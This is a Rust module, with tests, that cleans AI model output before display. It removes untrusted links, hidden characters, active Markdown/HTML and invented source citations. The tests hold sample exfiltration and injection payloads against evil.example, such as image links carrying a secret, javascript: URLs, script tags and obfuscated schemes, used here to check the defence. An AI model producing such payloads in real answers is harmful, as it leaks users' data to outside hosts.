//! What a model says on its way to people: nothing in it may load, lead anywhere unasked, or be taken for
//! markup. The text is taken word by word, so that a stream and the whole text come out the same.

use std::collections::HashSet;

use super::sources::Sources;

/// Stands where an address stood.
pub(super) const REMOVED: &str = "(link removed)";

/// The addresses that an answer may show.
#[derive(Debug, Default)]
pub(super) struct Known {
    links: HashSet<String>,
    mails: HashSet<String>,
}

impl Known {
    /// What the person wrote: its links may be shown.
    pub fn trust(&mut self, text: &str) {
        for address in addresses(text) {
            self.links.insert(address.clone());
            self.mails.insert(address);
        }
    }

    /// What others wrote: links in it are not shown, but people are named by their mail address.
    pub fn hear(&mut self, text: &str) {
        self.mails.extend(addresses(text).filter(|a| is_mail(a) && !a.contains(':')));
    }

    fn shows(&self, address: &str) -> bool {
        let set =
            if is_mail(address) && !address.contains(':') { &self.mails } else { &self.links };
        set.contains(address)
    }
}

/// Cleans a text that comes in pieces.
pub(super) struct Cleaner<'a> {
    known: &'a Known,
    /// What `[S1]` and the like may name.
    sources: &'a Sources,
    word: String,
    used: Vec<usize>,
}

impl<'a> Cleaner<'a> {
    pub fn new(known: &'a Known, sources: &'a Sources) -> Self {
        Self { known, sources, word: String::new(), used: Vec::new() }
    }

    /// Takes a piece; gives what is complete.
    pub fn push(&mut self, piece: &str) -> String {
        let mut out = String::with_capacity(piece.len());
        for c in piece.chars() {
            if c.is_whitespace() || stands_alone(c) {
                self.flush(&mut out);
                if c == '\n' || c == '\t' || !c.is_control() {
                    out.push(c);
                }
            } else if !is_hidden(c) {
                self.word.push(c);
            }
        }
        out
    }

    /// Gives the rest, and which sources were named, in the order of their first mark.
    pub fn finish(mut self) -> (String, Vec<usize>) {
        let mut out = String::new();
        self.flush(&mut out);
        (out, self.used)
    }

    fn flush(&mut self, out: &mut String) {
        let word = std::mem::take(&mut self.word);
        if !word.is_empty() {
            let word = self.without_addresses(&word);
            let word = self.with_true_marks(&word);
            disarm(&word, out);
        }
    }

    fn without_addresses(&self, word: &str) -> String {
        if self.known.shows(trimmed(word)) {
            return word.to_owned();
        }
        let mut out = String::with_capacity(word.len());
        let mut rest = word;
        for piece in word.split_inclusive(is_delimiter) {
            rest = &rest[piece.len()..];
            let bare = piece.trim_end_matches(is_delimiter);
            let core = trimmed(bare);
            if !is_address(core) && !bare.contains("://") {
                out.push_str(piece);
            } else if self.known.shows(core) {
                out.push_str(bare);
                // Nothing may be taken for the rest of it.
                if rest.contains(char::is_alphanumeric) {
                    out.push(' ');
                }
                out.push_str(&piece[bare.len()..]);
            } else {
                out.push_str(REMOVED);
                out.push_str(&piece[bare.len()..]);
            }
        }
        out
    }

    /// Marks of sources that there are stay; invented ones go.
    fn with_true_marks(&mut self, word: &str) -> String {
        let mut out = String::with_capacity(word.len());
        let mut rest = word;
        while let Some(at) = rest.find("[S") {
            let (before, mark) = rest.split_at(at);
            let digits = mark[2..].bytes().take_while(u8::is_ascii_digit).count();
            let end = 2 + digits;
            if digits == 0 || mark.as_bytes().get(end) != Some(&b']') {
                out.push_str(&rest[..at + 2]);
                rest = &rest[at + 2..];
                continue;
            }
            out.push_str(before);
            let number = mark[2..end].parse().ok().filter(|n| self.sources.has(*n));
            if let Some(number) = number {
                out.push_str(&mark[..=end]);
                if !self.used.contains(&number) {
                    self.used.push(number);
                }
            }
            rest = &mark[end + 1..];
        }
        out.push_str(rest);
        out
    }
}

/// Cleans a whole text.
pub(super) fn clean(text: &str, known: &Known, sources: &Sources) -> (String, Vec<usize>) {
    let mut cleaner = Cleaner::new(known, sources);
    let mut out = cleaner.push(text);
    let (rest, used) = cleaner.finish();
    out.push_str(&rest);
    (out.trim().to_owned(), used)
}

/// Takes from a word what a renderer of Markdown or HTML would act upon.
fn disarm(word: &str, out: &mut String) {
    let mut chars = word.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        out.push(c);
        let Some((_, next)) = chars.peek().copied() else { break };
        let acts = match c {
            // A tag, a comment, an autolink.
            '<' => next.is_alphabetic() || matches!(next, '/' | '!' | '?'),
            // A link or an image, a reference, and what it refers to.
            ']' => matches!(next, '(' | '[' | ':'),
            // A character by its name or number.
            '&' => is_entity(&word[at..]),
            _ => false,
        };
        if acts {
            out.push(' ');
        }
    }
}

fn is_entity(text: &str) -> bool {
    let name = text[1..].bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'#').count();
    name > 0 && text.as_bytes().get(1 + name) == Some(&b';')
}

/// Characters of scripts that put no spaces between words: each is a word of its own.
fn stands_alone(c: char) -> bool {
    matches!(c, '\u{3000}'..='\u{9fff}' | '\u{ac00}'..='\u{d7af}' | '\u{ff00}'..='\u{ffef}' | '\u{20000}'..='\u{3ffff}')
}

/// Characters that nobody sees: controls, zero-width ones, those that turn the direction, and tags.
fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{ad}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180e}' | '\u{200b}'..='\u{200f}'
            | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}'
            | '\u{e0000}'..='\u{e0fff}')
}

fn is_delimiter(c: char) -> bool {
    matches!(c, '(' | ')' | '[' | ']' | '<' | '>' | '{' | '}' | '"' | '\'' | '`' | '|' | ',' | ';')
}

fn trimmed(word: &str) -> &str {
    word.trim_matches(|c| is_delimiter(c) || matches!(c, '.' | ':' | '!' | '?' | '*' | '_' | '~'))
}

/// Every address in a text.
fn addresses(text: &str) -> impl Iterator<Item = String> {
    let words = text.split(|c: char| c.is_whitespace() || stands_alone(c));
    words.flat_map(|word| {
        let word: String = word.chars().filter(|c| !is_hidden(*c)).collect();
        let mut found: Vec<String> =
            word.split(is_delimiter).map(|piece| trimmed(piece).to_owned()).collect();
        found.push(trimmed(&word).to_owned());
        found.retain(|piece| is_address(piece));
        found
    })
}

/// Whether a client may make a link of it: an address of the web, of mail, or of another scheme.
fn is_address(text: &str) -> bool {
    const SCHEMES: [&str; 12] = [
        "javascript:",
        "data:",
        "vbscript:",
        "mailto:",
        "tel:",
        "sms:",
        "file:",
        "blob:",
        "ftp:",
        "http:",
        "https:",
        "intent:",
    ];
    // Markdown takes a backslash away.
    let text = text.replace('\\', "").to_lowercase();
    let text = text.as_str();
    text.contains("://")
        || text.contains("www.")
        || SCHEMES
            .iter()
            .any(|scheme| text.find(scheme).is_some_and(|at| text.len() > at + scheme.len()))
        || is_mail(text)
        || names_host(text)
}

fn is_mail(text: &str) -> bool {
    text.rsplit_once('@').is_some_and(|(who, host)| {
        !who.is_empty()
            && host.contains('.')
            && host.chars().next().is_some_and(char::is_alphanumeric)
    })
}

/// `host/path`, or a host below another one; behind an attribute as in `src=//host/path` as well.
fn names_host(text: &str) -> bool {
    let text = match text.rsplit_once('=') {
        Some((name, value)) if !name.contains(['/', '?', '#']) => value,
        _ => text,
    };
    let relative = text.starts_with("//");
    if text.starts_with('/') && !relative {
        return false;
    }
    let text = text.trim_start_matches('/');
    let end = text.find(['/', '?', '#', ':']).unwrap_or(text.len());
    let (host, rest) = text.split_at(end);
    let labels: Vec<&str> = host.split('.').collect();
    let legal = |label: &&str| {
        !label.is_empty() && label.chars().all(|c| c.is_alphanumeric() || c == '-' || c == '_')
    };
    let Some(top) = labels.last().filter(|_| labels.len() > 1 && labels.iter().all(legal)) else {
        return false;
    };
    let named = top.chars().count() > 1 && top.chars().all(char::is_alphabetic);
    let leads = relative || rest.contains(['/', '?', '#']);
    named && (leads || labels.len() > 2 && is_top_level(top))
}

/// Ends of names under which anyone may have a host. Two letters are a country.
fn is_top_level(label: &str) -> bool {
    const KNOWN: [&str; 26] = [
        "com", "net", "org", "info", "biz", "app", "dev", "xyz", "site", "online", "tech", "cloud",
        "click", "link", "top", "shop", "page", "live", "club", "web", "zip", "mov", "icu", "fun",
        "space", "website",
    ];
    label.len() == 2 && label.is_ascii() || KNOWN.contains(&label)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn cleaned(text: &str) -> String {
        clean(text, &Known::default(), &Sources::numbered(2)).0
    }

    #[test]
    fn no_markup_and_no_address_comes_through() {
        let hostile = [
            ("![x](https://evil.example/?d=secret)", "![x] ((link removed))"),
            ("[click](//evil.example/a)", "[click] ((link removed))"),
            ("<img src=https://evil.example/x>", "< img (link removed)>"),
            ("see www.evil.example", "see (link removed)"),
            ("see evil.example/?q=secret now", "see (link removed) now"),
            ("secret.evil.com", "(link removed)"),
            ("hidden@evil.example", "(link removed)"),
            ("[a]: javascript:alert(1)", "[a] : (link removed)(1)"),
            ("&#104;ttps&colon;//x", "& #104;ttps& colon;//x"),
            ("h\u{200b}ttps:\\//evil.example", "(link removed)"),
            ("mailto:a@evil.example?body=x", "(link removed)"),
            ("src=//evil.example/x.js", "(link removed)"),
            ("'//evil.example/'+x", "'(link removed)'+x"),
            ("<script>alert(1)</script>", "< script>alert(1)< /script>"),
        ];
        for (from, to) in hostile {
            assert_eq!(cleaned(from), to, "{from}");
        }
    }

    #[test]
    fn plain_words_and_code_stay() {
        let plain = [
            "Open **Settings** and choose _Reset_ (top right), e.g. at 10:30.",
            "Run `cargo test -p x` in config.toml, or java.lang.String; a && b; x < 3.",
            "Ticket #12 is open: see [S1] and [S2].",
            "- one\n- two\n\n1. three",
            "C:\\Temp\\file.txt and and/or, 24/7, v1.2.3, /etc/app.conf/x, main.rs:42",
        ];
        for text in plain {
            assert_eq!(cleaned(text), text);
        }
    }

    #[test]
    fn what_the_person_wrote_may_be_named() {
        let mut known = Known::default();
        known.trust("My page is https://shop.example.com/a?b=1, mail me at me@example.com.");
        known.hear("Ask anna@example.com or https://evil.example/x.");
        let text = "See https://shop.example.com/a?b=1. Write to me@example.com or anna@example.com, not https://evil.example/x or https://shop.example.com/a?b=2";
        let (out, _) = clean(text, &known, &Sources::default());
        assert_eq!(
            out,
            "See https://shop.example.com/a?b=1. Write to me@example.com or anna@example.com, not (link removed) or (link removed)"
        );
    }

    #[test]
    fn nothing_is_hung_onto_a_known_address() {
        let mut known = Known::default();
        known.trust("https://shop.example.com/a?b=");
        for glue in [",", ";", "(", "|", "'", "{", "["] {
            let text = format!("https://shop.example.com/a?b={glue}SECRET");
            let (out, _) = clean(&text, &known, &Sources::default());
            assert!(out.starts_with("https://shop.example.com/a?b= "), "{out}");
        }
        let (out, _) = clean("(see https://shop.example.com/a?b=).", &known, &Sources::default());
        assert_eq!(out, "(see https://shop.example.com/a?b=).");
    }

    #[test]
    fn an_invented_mark_is_dropped_and_a_true_one_counts() {
        let (out, used) =
            clean("So [S2], so [S9][S1] and [S2]. [Sx]", &Known::default(), &Sources::numbered(2));
        assert_eq!((out.as_str(), used), ("So [S2], so [S1] and [S2]. [Sx]", vec![2, 1]));
    }

    proptest! {
        #[test]
        fn a_stream_comes_out_like_the_whole(text in "(\\PC|[ \\n<\\]\\(&:/.@]|\\[S1\\]|https://a.b/c|www\\.){0,40}", cut in 0usize..200) {
            let at = text.char_indices().map(|(i, _)| i).nth(cut).unwrap_or(text.len());
            let (known, sources) = (Known::default(), Sources::numbered(1));
            let mut cleaner = Cleaner::new(&known, &sources);
            let mut out = cleaner.push(&text[..at]);
            out.push_str(&cleaner.push(&text[at..]));
            let (rest, used) = cleaner.finish();
            out.push_str(&rest);
            let (whole, of_whole) = clean(&text, &known, &sources);
            prop_assert_eq!(out.trim(), whole);
            prop_assert_eq!(used, of_whole);
        }

        #[test]
        fn nothing_acts(text in "(\\PC|[<\\]\\(&:/.@!?]|https://|\\]\\(|<img |&#6;|data:){0,40}") {
            let out = cleaned(&text);
            prop_assert!(!out.contains("]("), "{out}");
            prop_assert!(!out.contains("://"), "{out}");
            let tag = out.char_indices().any(|(i, c)| c == '<' && out[i + 1..].starts_with(|c: char| c.is_ascii_alphabetic()));
            prop_assert!(!tag, "{out}");
        }
    }
}
